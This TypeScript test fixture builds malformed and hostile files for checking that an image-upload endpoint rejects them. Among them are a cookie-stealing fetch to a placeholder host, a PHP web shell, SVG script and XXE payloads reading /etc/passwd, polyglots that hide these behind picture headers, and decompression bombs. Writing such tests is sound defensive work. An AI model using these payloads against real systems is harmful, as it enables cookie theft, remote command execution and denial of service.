import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { canvas, chunk, drawBomb } from '#tests/http/platform/uploads/pictures.ts'

export type BadPicture = readonly [what: string, content: Buffer]

const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>')
const SCRIPT = Buffer.from('/*<!--*/fetch("//x.example/"+document.cookie)//-->')
const PHP = Buffer.from('<?php system($_GET["c"]); ?>')
const ZIP = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(26), Buffer.from('a.txthello')])
export const PAYLOADS = { HTML, SCRIPT, PHP, ZIP } as const

const PNG_START = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
const IEND = chunk('IEND', Buffer.alloc(0))

const picture = () => canvas(240, 180)
/** One intact picture of each accepted format. */
export const WHOLE = {
  jpeg: await picture().jpeg().toBuffer(),
  png: await picture().png().toBuffer(),
  webp: await picture().webp({ lossless: true }).toBuffer(),
  avif: await picture().avif({ effort: 0 }).toBuffer(),
}

/** Files that are not an accepted picture, whatever their name. */
const strangers: BadPicture[] = [
  ['a web page', HTML],
  ['a script', SCRIPT],
  ['a program for PHP', PHP],
  ['a ZIP archive', ZIP],
  ['a gzip archive', gzipSync(HTML)],
  ['a text', Buffer.from('I am not a picture. '.repeat(40))],
  ['a JSON', Buffer.from('{"image":"data:image/png;base64,iVBORw0KGgo="}')],
  ['a PDF', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n')],
  ['a program for Windows', Buffer.concat([Buffer.from('MZ\u0090\0', 'latin1'), Buffer.alloc(200)])],
  ['a program for Linux', Buffer.concat([Buffer.from('\u007fELF\u0002\u0001\u0001', 'latin1'), Buffer.alloc(200)])],
  ['a program for browsers', Buffer.from('\0asm\u0001\0\0\0', 'latin1')],
  ['a film', Buffer.from('\0\0\0\u0018ftypmp42\0\0\0\0mp42isom', 'latin1')],
  ['a song', Buffer.concat([Buffer.from('ID3\u0004\0\0\0\0\0\0', 'latin1'), Buffer.alloc(200)])],
  ['a bitmap', Buffer.concat([Buffer.from('BM'), Buffer.alloc(200)])],
  ['a TIFF', await picture().tiff().toBuffer()],
  ['an icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(200)])],
  ['a Photoshop file', Buffer.concat([Buffer.from('8BPS\0\u0001', 'latin1'), Buffer.alloc(200)])],
  ['a JPEG XL', Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(200)])],
  ['a drawing in SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
  ['a drawing that begins as XML', Buffer.from('<?xml version="1.0"?><svg onload="alert(1)"/>')],
  ['a drawing that reads files', Buffer.from('<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>')],
  ['a packed drawing', gzipSync('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ...['heic', 'heix', 'mif1', 'msf1', 'hevc'].map((brand): BadPicture => {
    const start = `\0\0\0\u0018ftyp${brand}\0\0\0\0mif1heic`
    return [`a photo in HEIC (${brand})`, Buffer.from(start, 'latin1')]
  }),
  ['nothing', Buffer.alloc(0)],
  ['one byte', Buffer.from([0xff])],
  ['a thousand zeros', Buffer.alloc(1000)],
]

const STARTS = {
  JPEG: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0]),
  PNG: PNG_START,
  GIF: Buffer.from('GIF89a'),
  WebP: Buffer.from('RIFF\u00ff\0\0\0WEBPVP8 ', 'latin1'),
  AVIF: Buffer.from('\0\0\0\u001cftypavif\0\0\0\0avifmif1miaf', 'latin1'),
}

/** Begins as a picture and continues as something else, so that both readers would accept it. */
const polyglots = Object.entries(STARTS).flatMap(([format, start]): BadPicture[] => [
  [`the start of a ${format} and nothing else`, start],
  ...Object.entries(PAYLOADS).map(
    ([name, payload]): BadPicture => [`${name} behind the start of a ${format}`, Buffer.concat([start, payload])],
  ),
])

const truncated = Object.entries(WHOLE).flatMap(([format, whole]) =>
  [0.25, 0.5, 0.8].map(
    (part): BadPicture => [`${part * 100}% of a ${format}`, whole.subarray(0, Math.floor(whole.length * part))],
  ),
)

type Header = { width?: number; height?: number; depth?: number; color?: number }
function header({ width = 8, height = 8, depth = 8, color = 2 }: Header): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width, 0)
  data.writeUInt32BE(height, 4)
  data.set([depth, color, 0, 0, 0], 8)
  return chunk('IHDR', data)
}
const rows = (bytes: number) => chunk('IDAT', deflateSync(Buffer.alloc(bytes)))
const png = (...parts: Buffer[]) => Buffer.concat([PNG_START, ...parts])
const WHOLE_ROWS = 8 * 25

/** The same bytes with one of them inverted. */
function broken(content: Buffer, at: number): Buffer {
  const copy = Buffer.from(content)
  copy[at] = ~(copy[at] ?? 0) & 0xff
  return copy
}

const brokenParts: BadPicture[] = [
  ['a PNG whose header has another sum', broken(png(header({}), rows(WHOLE_ROWS), IEND), 29)],
  ['a PNG whose pixels have another sum', broken(png(header({}), rows(WHOLE_ROWS), IEND), 33 + 8 + 4)],
  ['a PNG without pixels', png(header({}), IEND)],
  ['a PNG without a header', png(rows(WHOLE_ROWS), IEND)],
  ['a PNG with too few pixels', png(header({}), rows(20), IEND)],
  ['a PNG that cannot be unpacked', png(header({}), chunk('IDAT', Buffer.from('not packed at all')), IEND)],
  ['a PNG with an unknown filter', png(header({}), chunk('IDAT', deflateSync(Buffer.alloc(WHOLE_ROWS, 9))), IEND)],
  ['a PNG without width', png(header({ width: 0 }), rows(WHOLE_ROWS), IEND)],
  ['a PNG without height', png(header({ height: 0 }), rows(WHOLE_ROWS), IEND)],
  ['a PNG of an unknown colour', png(header({ color: 5 }), rows(WHOLE_ROWS), IEND)],
  ['a PNG of an unknown depth', png(header({ depth: 3 }), rows(WHOLE_ROWS), IEND)],
  ['a PNG with colours and no table of them', png(header({ color: 3 }), rows(8 * 9), IEND)],
]

/** A whole JPEG that claims these dimensions. */
function swollenJpeg(side: number): Buffer {
  const copy = Buffer.from(WHOLE.jpeg)
  const frame = copy.indexOf(Buffer.from([0xff, 0xc0]))
  copy.writeUInt16BE(side, frame + 5)
  copy.writeUInt16BE(side, frame + 7)
  return copy
}

function swollenGif(): Buffer {
  const screen = Buffer.from([0xff, 0xff, 0xff, 0xff, 0x80, 0, 0, 0, 0, 0, 255, 255, 255])
  const image = Buffer.from([0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 2, 2, 0x4c, 1, 0, 0x3b])
  return Buffer.concat([Buffer.from('GIF89a'), screen, image])
}

/** A few bytes that would unpack to more than any memory. */
const bombs: BadPicture[] = [
  ['a PNG of 900 megapixels', drawBomb()],
  ['a PNG just over 50 megapixels', png(header({ width: 7072, height: 7072, depth: 1, color: 0 }), rows(100), IEND)],
  ['a PNG one pixel high and two thousand million wide', png(header({ width: 0x7fffffff, height: 1 }), rows(9), IEND)],
  ['a PNG of a million by a million', png(header({ width: 1_000_000, height: 1_000_000 }), rows(9), IEND)],
  ['a JPEG of 4,295 megapixels', swollenJpeg(65_535)],
  ['a JPEG of 64 megapixels', swollenJpeg(8_000)],
  ['a GIF of 4,295 megapixels', swollenGif()],
]

export const BAD_PICTURES: readonly BadPicture[] = [...strangers, ...polyglots, ...truncated, ...brokenParts, ...bombs]

/** A phone's photo that contains the place and author. */
export const photoWithPlace = () =>
  sharp(WHOLE.jpeg)
    .withExif({ IFD0: { Artist: 'Asha Menon' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '25/1 20/1 0/1' } })
    .toBuffer()

/** An animated picture with this many frames. */
export async function movingPicture(frames: number): Promise<Buffer> {
  const pages = Array.from({ length: frames }, (_, at) => ({
    create: { width: 16, height: 16, channels: 3 as const, background: { r: (at * 7) % 256, g: 40, b: 90 } },
  }))
  const inputs = await Promise.all(pages.map((page) => sharp(page).png().toBuffer()))
  return sharp(inputs, { join: { animated: true } })
    .gif()
    .toBuffer()
}
